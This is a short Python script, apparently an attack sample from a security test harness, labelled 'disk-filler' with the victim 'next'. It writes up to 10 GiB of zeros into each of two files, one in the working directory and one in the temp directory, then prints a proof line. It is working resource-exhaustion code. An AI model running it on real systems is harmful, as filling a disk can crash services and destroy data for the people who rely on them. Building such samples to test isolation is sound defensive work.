"""Writes files until the disk is full.

victim: next
proof: ATTACK disk-filler: ran
"""

import os

block = b"\0" * 2**20
for name in ("filler-1", os.path.join(os.environ.get("TMPDIR", "/tmp"), "filler-2")):
    try:
        with open(name, "wb") as handle:
            for _ in range(10 * 1024):
                handle.write(block)
    except OSError:
        pass
print("ATTACK disk-filler: ran", flush=True)
